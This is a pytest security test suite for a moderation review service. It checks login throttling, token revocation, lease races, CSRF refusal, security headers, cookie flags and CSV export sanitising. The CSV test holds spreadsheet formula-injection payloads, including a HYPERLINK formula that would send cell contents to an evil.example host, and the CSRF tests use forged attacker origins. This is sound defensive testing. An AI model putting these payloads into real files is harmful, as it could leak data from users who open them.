"""The review service under abuse (issue 10), each attack tried against the app over a real PostgreSQL:
password guessing, tokens that outlive their owner, leases held forever and the decide race, CSV
formulas, unbounded reasons, login CSRF, missing headers and cookie flags, unescaped post ids, 422
answers that echo passwords, and the watermark's green lists leaking through per-token evidence."""

from __future__ import annotations

import csv
import io
import logging
import os
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine, text

from moderation.review import service
from moderation.review.app import create_app
from moderation.review.settings import ReviewSettings
from tests.review_data import ODD_IDS, PASSWORD, review_database, running_server

pytestmark = pytest.mark.integration


@pytest.fixture(scope="module")
def seeded() -> Iterator[tuple[Engine, dict[str, str]]]:
    with review_database() as (db, tokens):
        yield db, tokens


def app_client(db: Engine, **settings: Any) -> TestClient:
    return TestClient(create_app(db, ReviewSettings(**settings)), follow_redirects=False)


def bearer(tokens: dict[str, str], name: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {tokens[name]}"}


def cli(db: Engine, *args: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "MODERATION_DATABASE_URL": db.url.render_as_string(hide_password=False)}
    return subprocess.run(
        [sys.executable, "-m", "moderation.cli", "users", *args], env=env, input=stdin, capture_output=True, text=True
    )


# ---- 1. password guessing -------------------------------------------------------------------------------
def test_guesses_are_throttled_per_address_with_retry_after_and_audited(
    seeded: tuple[Engine, dict[str, str]], caplog: pytest.LogCaptureFixture
) -> None:
    db, _ = seeded
    client = app_client(db, login_limits_per_address="4/minute", login_limits_per_account="100/minute")
    guesses = [f"guess number {i}" for i in range(6)]
    with caplog.at_level(logging.WARNING, logger="moderation.review"):
        codes = [client.post("/api/login", json={"username": "carol", "password": g}).status_code for g in guesses[:4]]
        over = client.post("/api/login", json={"username": "carol", "password": guesses[4]})
        right = client.post("/api/login", json={"username": "carol", "password": PASSWORD})
        other = client.post("/api/login", json={"username": "alice", "password": PASSWORD})
    assert codes == [401] * 4
    assert over.status_code == right.status_code == other.status_code == 429  # the address is over its limit
    assert 1 <= int(over.headers["Retry-After"]) <= 60
    assert "set-cookie" not in right.headers
    # A client at another address is not affected.
    elsewhere = TestClient(client.app, client=("192.0.2.7", 4000))
    assert elsewhere.post("/api/login", json={"username": "alice", "password": PASSWORD}).status_code == 200
    # Every wrong password is an audit event, and a log line naming the account, never the password.
    with db.connect() as conn:
        events = conn.execute(
            text("SELECT kind, username, address, user_id IS NOT NULL FROM auth_events WHERE username = 'carol'")
        ).all()
    assert [tuple(e) for e in events] == [("login_failed", "carol", "testclient", True)] * 4
    logged = "\n".join(r.getMessage() for r in caplog.records)
    assert "'carol'" in logged and logged.count("login throttled") == 1  # three refusals, one line a minute
    assert not any(g in logged for g in guesses) and PASSWORD not in logged


def test_guesses_at_one_account_from_many_addresses_are_throttled_and_success_resets(
    seeded: tuple[Engine, dict[str, str]],
) -> None:
    db, _ = seeded
    app = create_app(db, ReviewSettings(login_limits_per_address="100/minute", login_limits_per_account="3/minute"))
    clients = [TestClient(app, client=(f"198.51.100.{i}", 1000 + i)) for i in range(5)]
    codes = [c.post("/api/login", json={"username": "dave-unknown", "password": "x" * 12}).status_code for c in clients]
    assert codes == [401, 401, 401, 429, 429]  # an unknown account is throttled like a real one
    # The owner logging in resets the account's count; other accounts are untouched.
    ok = [clients[0].post("/api/login", json={"username": "alice", "password": PASSWORD}).status_code for _ in range(3)]
    assert ok == [200, 200, 200]
    with db.connect() as conn:
        unknown = conn.execute(text("SELECT user_id FROM auth_events WHERE username = 'dave-unknown'")).scalars().all()
    assert unknown == [None, None, None]


def test_the_password_is_checked_with_no_database_connection_held(
    seeded: tuple[Engine, dict[str, str]], monkeypatch: pytest.MonkeyPatch
) -> None:
    """argon2id takes ~0.2 s and 64 MiB: done inside a transaction, a few dozen guesses drain the pool."""
    db, _ = seeded
    from moderation.review import auth, throttle

    held: list[int] = []

    def watched(password_hash: str, password: str) -> bool:
        held.append(db.pool.checkedout())  # type: ignore[attr-defined]
        return auth.verify_password(password_hash, password)

    monkeypatch.setattr(throttle, "verify_password", watched)
    client = app_client(db)
    assert client.post("/api/login", json={"username": "alice", "password": "wrong password"}).status_code == 401
    assert client.post("/api/login", json={"username": "alice", "password": PASSWORD}).status_code == 200
    assert held == [0, 0]


# ---- 2. tokens --------------------------------------------------------------------------------------------
def test_tokens_are_listed_without_secrets_revoked_and_expire(seeded: tuple[Engine, dict[str, str]]) -> None:
    db, _ = seeded
    client = app_client(db)
    assert cli(db, "add", "tina", "--password-stdin", stdin=PASSWORD + "\n").returncode == 0
    assert cli(db, "grant", "tina", "acme", "viewer").returncode == 0
    first = cli(db, "token", "tina", "--name", "ci").stdout.strip()
    second = cli(db, "token", "tina", "--name", "laptop", "--expires-days", "30").stdout.strip()
    short = cli(db, "token", "tina", "--name", "short", "--expires-days", "0.00002").stdout.strip()  # ~1.7 s
    for token in (first, second, short):
        assert client.get("/api/me", headers={"Authorization": f"Bearer {token}"}).status_code == 200
    listing = cli(db, "tokens", "tina")
    assert listing.returncode == 0
    lines = listing.stdout.splitlines()
    assert [line.split()[1] for line in lines[1:]] == ["ci", "laptop", "short"]
    assert all(t not in listing.stdout for t in (first, second, short)) and "mod_" not in listing.stdout
    token_id = lines[1].split()[0]
    revoked = cli(db, "revoke-token", "tina", token_id)
    assert revoked.returncode == 0, revoked.stderr
    assert client.get("/api/me", headers={"Authorization": f"Bearer {first}"}).status_code == 401
    assert client.get("/api/me", headers={"Authorization": f"Bearer {second}"}).status_code == 200
    time.sleep(2.0)
    assert client.get("/api/me", headers={"Authorization": f"Bearer {short}"}).status_code == 401
    states = {line.split()[1]: line.split()[-1] for line in cli(db, "tokens", "tina").stdout.splitlines()[1:]}
    assert states == {"ci": "revoked", "laptop": "live", "short": "expired"}
    assert cli(db, "revoke-token", "tina", token_id).returncode == 1  # already revoked: said so


@pytest.mark.parametrize("how", ["disable", "password"])
def test_disabling_a_user_or_a_new_password_ends_their_tokens_and_sessions(
    seeded: tuple[Engine, dict[str, str]], how: str
) -> None:
    db, _ = seeded
    name = f"ursula-{how}"
    client = app_client(db)
    assert cli(db, "add", name, "--password-stdin", stdin=PASSWORD + "\n").returncode == 0
    cli(db, "grant", name, "acme", "moderator")
    token = cli(db, "token", name).stdout.strip()
    assert client.post("/api/login", json={"username": name, "password": PASSWORD}).status_code == 200
    assert client.get("/api/me").status_code == 200  # the session works
    if how == "disable":
        assert cli(db, "disable", name).returncode == 0
        assert cli(db, "enable", name).returncode == 0  # enabling again does not revive them
    else:
        assert cli(db, "password", name, "--password-stdin", stdin="a brand new password\n").returncode == 0
    assert client.get("/api/me").status_code == 401
    assert client.get("/api/me", headers={"Authorization": f"Bearer {token}"}).status_code == 401
    assert cli(db, "tokens", name).stdout.splitlines()[1].split()[-1] == "revoked"


# ---- 3. leases ------------------------------------------------------------------------------------------
def test_admins_take_over_leases_and_renewals_are_bounded(seeded: tuple[Engine, dict[str, str]]) -> None:
    db, tokens = seeded
    client = app_client(db, lease_seconds=1.0, lease_max_seconds=1.5)
    carol, alice, ada = (bearer(tokens, n) for n in ("carol", "alice", "ada"))
    first = client.post("/api/posts/acme/wm3/claim", headers=carol).json()
    renewed = client.post("/api/posts/acme/wm3/claim", headers=carol).json()
    assert renewed["lease_expires_at"] <= renewed["renewable_until"] == first["renewable_until"]
    time.sleep(0.6)
    capped = client.post("/api/posts/acme/wm3/claim", headers=carol).json()  # would reach 1.6 s: capped at 1.5
    assert capped["lease_expires_at"] == first["renewable_until"]
    refused = client.post("/api/posts/acme/wm3/claim", headers=carol)
    assert refused.status_code == 409 and "cannot be renewed" in refused.json()["detail"]
    # A moderator may not override; an admin may, and may decide through another's lease.
    assert client.post("/api/posts/acme/wm3/claim?override=true", headers=alice).status_code == 403
    taken = client.post("/api/posts/acme/wm3/claim?override=true", headers=ada)
    assert taken.status_code == 200 and taken.json()["claimed_by"] == "ada"
    events = client.get("/api/posts/acme/wm3", headers=ada).json()["events"]
    assert events[-1]["reason"] == "took over from carol"
    assert client.post("/api/posts/acme/wm3/release", headers=ada).status_code == 200
    client.post("/api/posts/acme/wm3/claim", headers=carol)
    decided = client.post(
        "/api/posts/acme/wm3/decision", headers=ada, json={"decision": "escalate", "reason": "needs a second look"}
    )
    assert decided.status_code == 200 and decided.json()["claimed_by"] is None
    # An escalated post is no longer a moderator's to claim.
    assert client.post("/api/posts/acme/wm3/claim", headers=carol).status_code == 403
    assert client.post("/api/posts/acme/wm3/claim", headers=ada).status_code == 200


def test_a_claim_cannot_slip_between_the_lease_check_and_the_decision(
    seeded: tuple[Engine, dict[str, str]], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Fault injection: the decision pauses between its lease check and its write. Without the row lock a
    claim made in that pause succeeded and was then wiped by the decision (both answered 200)."""
    db, tokens = seeded
    client = app_client(db)
    checked_decision = service._checked_decision

    def slow(*args: Any, **kwargs: Any) -> Any:
        out = checked_decision(*args, **kwargs)
        time.sleep(0.5)
        return out

    monkeypatch.setattr(service, "_checked_decision", slow)
    results: dict[str, int] = {}

    def decide() -> None:
        results["decide"] = client.post(
            "/api/posts/acme/h1/decision", headers=bearer(tokens, "alice"), json={"decision": "overturn", "reason": "r"}
        ).status_code

    worker = threading.Thread(target=decide)
    worker.start()
    time.sleep(0.2)
    results["claim"] = client.post("/api/posts/acme/h1/claim", headers=bearer(tokens, "carol")).status_code
    worker.join()
    assert results == {"decide": 200, "claim": 200}
    post = client.get("/api/posts/acme/h1", headers=bearer(tokens, "carol")).json()
    # The claim waited for the decision and came after it, so carol's lease stands.
    assert post["claimed_by"] == "carol"
    assert [e["kind"] for e in post["events"]][-2:] == ["decided", "claimed"]


# ---- 4. CSV formulas --------------------------------------------------------------------------------------
def test_the_csv_export_neutralises_formulas(seeded: tuple[Engine, dict[str, str]]) -> None:
    db, tokens = seeded
    client = app_client(db)
    ada = bearer(tokens, "ada")
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", " =1+1"]
    for reason in hostile:
        response = client.post(
            "/api/posts/acme/h2/decision", headers=ada, json={"decision": "overturn", "reason": reason}
        )
        assert response.status_code == 200, response.text
    body = client.get("/api/decisions.csv?tenant=acme", headers=ada).text
    rows = [r for r in csv.DictReader(io.StringIO(body)) if r["post_id"] == "h2"]
    # Trimmed as stored ("\t=1" -> "=1"), then prefixed with an apostrophe: text, never a formula.
    assert [r["reason"] for r in rows] == ["'" + r.strip() for r in hostile]
    assert all(line.startswith('"') for line in body.splitlines())  # every field quoted
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values())


# ---- 5. one validation for reasons --------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("reason", "accepted"),
    [
        ("x" * service.REASON_MAX_CHARS, True),
        ("x" * (service.REASON_MAX_CHARS + 1), False),
        (" \n\t ", False),
        ("bell\x07", False),
        ("nul\x00", False),
        ("two\nlines", True),
    ],
)
def test_form_and_api_accept_and_refuse_the_same_reasons(
    seeded: tuple[Engine, dict[str, str]], reason: str, accepted: bool
) -> None:
    db, tokens = seeded
    client = app_client(db)
    ada = bearer(tokens, "ada")
    api = client.post("/api/posts/acme/h0/decision", headers=ada, json={"decision": "overturn", "reason": reason})
    form = client.post("/posts/acme/h0/decide", headers=ada, data={"decision": "overturn", "reason": reason})
    assert (api.status_code, form.status_code) == ((200, 303) if accepted else (422, 422))
    bulk = client.post(
        "/api/decisions/bulk",
        headers=ada,
        json={"tenant": "acme", "ids": ["h0"], "decision": "overturn", "reason": reason},
    )
    assert bulk.status_code == (200 if accepted else 422)
    assert len(form.text) < 1000  # the refusal does not repeat the reason


# ---- 6. login CSRF --------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("headers", "allowed"),
    [
        ({"Origin": "https://evil.example"}, False),
        ({"Origin": "null"}, False),
        ({"Sec-Fetch-Site": "cross-site", "Origin": "https://evil.example"}, False),
        ({"Sec-Fetch-Site": "same-site", "Origin": "http://sub.testserver"}, False),
        ({"Sec-Fetch-Site": "same-origin", "Origin": "http://testserver"}, True),
        ({"Origin": "http://testserver"}, True),
        ({}, True),  # no browser: curl, API clients
    ],
)
def test_a_cross_site_login_form_is_refused(
    seeded: tuple[Engine, dict[str, str]], headers: dict[str, str], allowed: bool
) -> None:
    client = app_client(seeded[0])
    response = client.post("/login", data={"username": "alice", "password": PASSWORD}, headers=headers)
    if allowed:
        assert response.status_code == 303 and "moderation_session" in response.headers["set-cookie"]
    else:
        assert response.status_code == 403 and "set-cookie" not in response.headers


def test_every_unsafe_route_refuses_a_foreign_origin_even_with_a_token(seeded: tuple[Engine, dict[str, str]]) -> None:
    db, tokens = seeded
    client = app_client(db)
    evil = {**bearer(tokens, "alice"), "Origin": "https://evil.example"}
    for route in client.app.routes:  # type: ignore[attr-defined]
        for method in (getattr(route, "methods", None) or set()) & {"POST", "PUT", "PATCH", "DELETE"}:
            path = str(getattr(route, "path", "")).replace("{tenant}", "acme").replace("{post_id:path}", "wm0")
            assert client.request(method, path, headers=evil).status_code == 403, path


# ---- 7. headers, cookies, idle sessions ----------------------------------------------------------------------
def test_every_page_carries_the_security_headers(seeded: tuple[Engine, dict[str, str]]) -> None:
    db, tokens = seeded
    client = app_client(db)
    alice = bearer(tokens, "alice")
    for path in (
        "/login",
        "/",
        "/posts/acme/wm0",
        "/api/queue",
        "/api/posts/acme/wm0",
        "/api/decisions.csv",
        "/health",
    ):
        h = client.get(path, headers=alice).headers
        csp = h["content-security-policy"]
        assert "frame-ancestors 'none'" in csp and "default-src 'none'" in csp and "unsafe-inline" not in csp, path
        assert "script-src" not in csp  # no script at all: default-src 'none' covers it
        assert h["x-content-type-options"] == "nosniff" and h["referrer-policy"] == "same-origin", path
        assert h["cache-control"] == "no-store", path
    assert client.get("/login").text.count("<script") == 0 and "<style" not in client.get("/login").text
    css = client.get("/static/review.css")
    assert css.status_code == 200 and css.headers["content-type"].startswith("text/css")


def test_cookies_are_secure_with_the_host_prefix_over_https(seeded: tuple[Engine, dict[str, str]]) -> None:
    app = create_app(seeded[0], ReviewSettings())
    https = TestClient(app, base_url="https://testserver")
    cookie = https.post("/api/login", json={"username": "alice", "password": PASSWORD}).headers["set-cookie"]
    assert cookie.startswith("__Host-moderation_session=")
    assert "Secure" in cookie and "HttpOnly" in cookie and "Path=/" in cookie and "Domain" not in cookie
    assert https.get("/api/me").json()["username"] == "alice"
    plain = TestClient(app).post("/api/login", json={"username": "alice", "password": PASSWORD}).headers["set-cookie"]
    assert plain.startswith("moderation_session=") and "Secure" not in plain


def test_idle_sessions_end_and_ended_sessions_are_purged(seeded: tuple[Engine, dict[str, str]]) -> None:
    db, _ = seeded
    client = app_client(db, session_idle_minutes=0.02)  # 1.2 s
    assert client.post("/api/login", json={"username": "vic", "password": PASSWORD}).status_code == 200
    assert client.get("/api/me").status_code == 200
    time.sleep(1.5)
    assert client.get("/api/me").status_code == 401
    with db.begin() as conn:  # a session long past its lifetime
        conn.execute(
            text(
                "INSERT INTO sessions (id_hash, user_id, csrf_token, expires_at) SELECT 'stale', id, 'c',"
                " now() - interval '1 day' FROM users WHERE username = 'vic'"
            )
        )
    other = app_client(db, session_idle_minutes=0.02)
    assert other.post("/api/login", json={"username": "vic", "password": PASSWORD}).status_code == 200
    with db.connect() as conn:
        left = conn.execute(
            text("SELECT count(*) FROM sessions s JOIN users u ON u.id = s.user_id WHERE u.username = 'vic'")
        )
        assert left.scalar() == 1  # only the new one
    # The command finds nothing more to purge (with a 60-minute idle limit: the new session stays).
    assert cli(db, "purge-sessions", "--idle-minutes", "60").stdout.startswith("purged 0 ")


# ---- 8. post ids in URLs -------------------------------------------------------------------------------------
def test_odd_post_ids_are_escaped_in_links_and_actions(seeded: tuple[Engine, dict[str, str]]) -> None:
    """Against a real server (the test client decodes paths twice, so "%2541" would not survive it)."""
    db, _ = seeded
    with running_server(create_app(db)) as url, httpx.Client(base_url=url, follow_redirects=False) as client:
        client.post("/login", data={"username": "ada", "password": PASSWORD})
        queue = client.get("/?author=odd").text
        for odd in ODD_IDS:
            href = f"/posts/acme/{quote(odd, safe='')}"
            assert f'href="{href}"' in queue, odd
            page = client.get(href)
            assert page.status_code == 200 and "<h1>Post " in page.text, odd
            assert f'action="{href}/claim"' in page.text
            csrf = page.text.split('name="csrf_token" value="', 1)[1].split('"', 1)[0]
            claimed = client.post(f"{href}/claim", data={"csrf_token": csrf})
            assert claimed.status_code == 303 and claimed.headers["location"] == href
            api = client.get(f"/api/posts/acme/{quote(odd, safe='')}").json()
            assert (api["id"], api["claimed_by"]) == (odd, "ada")
        # "odd/../wm0" is its own post, not a path to wm0.
        assert client.get("/api/posts/acme/wm0").json()["claimed_by"] != "ada"


# ---- 9. 422 without the body ---------------------------------------------------------------------------------
def test_a_422_never_repeats_what_was_sent(seeded: tuple[Engine, dict[str, str]]) -> None:
    client = app_client(seeded[0])
    secret = "hunter2-but-longer"
    for response in (
        client.post("/api/login", json={"username": ["x"], "password": secret}),
        client.post("/api/login", json=[secret]),
        client.post("/api/login", json={"username": "alice", "password": {"p": secret}}),
        client.post("/api/login", content=f'{{"username": "alice", "password": "{secret}"'),  # broken JSON
        client.post("/login", data={"password": secret}),  # no username
        client.post("/login", data={"username": "alice", "password": secret * 100}),  # too long
    ):
        assert response.status_code == 422
        assert secret not in response.text and "input" not in response.json()["detail"][0]


# ---- 10. evidence --------------------------------------------------------------------------------------------
def metric(client: TestClient, role: str, outcome: str) -> float:
    for line in client.get("/metrics").text.splitlines():
        if (
            line.startswith("moderation_review_evidence_reads_total{")
            and f'role="{role}"' in line
            and f'outcome="{outcome}"' in line
        ):
            return float(line.rsplit(" ", 1)[1])
    return 0.0


def test_viewers_get_the_statistic_and_span_but_no_per_token_evidence(seeded: tuple[Engine, dict[str, str]]) -> None:
    db, tokens = seeded
    client = app_client(db, evidence_posts_per_day=3)
    before = {
        k: metric(client, *k)
        for k in (("viewer", "withheld_role"), ("moderator", "shown"), ("moderator", "withheld_budget"))
    }
    seen = client.get("/api/posts/acme/wm1", headers=bearer(tokens, "vic")).json()
    wm = next(s for s in seen["signals"] if s["plugin"] == "watermark")
    assert seen["evidence"] == "withheld_role" and all("evidence" not in s for s in seen["signals"])
    assert wm["z_score"] > 4 and wm["num_green_tokens"] > 0 and wm["window"]["end_char"] > wm["window"]["start_char"]
    page = client.get("/posts/acme/wm1", headers=bearer(tokens, "vic")).text
    assert 'class="tok-green"' not in page and 'class="passage"' in page
    # A moderator sees the tokens, within the daily budget (3 posts here: the 4th read is withheld).
    carol = bearer(tokens, "carol")
    reads = [client.get(f"/api/posts/acme/wm{i}", headers=carol).json() for i in (0, 1, 2, 3)]
    assert [r["evidence"] for r in reads] == ["shown", "shown", "shown", "withheld_budget"]
    assert reads[0]["signals"][0]["evidence"]["tokens"]
    with db.connect() as conn:
        posts, read_tokens = conn.execute(
            text(
                "SELECT r.posts, r.tokens FROM evidence_reads r JOIN users u ON u.id = r.user_id WHERE u.username = 'carol'"
            )
        ).one()
    assert posts == 3 and read_tokens > 3 * 50
    # The per-account meter, as an operator reads it.
    metered = [line.split() for line in cli(db, "evidence").stdout.splitlines()[1:]]
    assert [row[1:4] for row in metered if row[1] == "carol"] == [["carol", "acme", "3"]]
    assert metric(client, "viewer", "withheld_role") - before[("viewer", "withheld_role")] == 2
    assert metric(client, "moderator", "shown") - before[("moderator", "shown")] == 3
    assert metric(client, "moderator", "withheld_budget") - before[("moderator", "withheld_budget")] == 1
    assert "carol" not in client.get("/metrics").text  # no account in any label
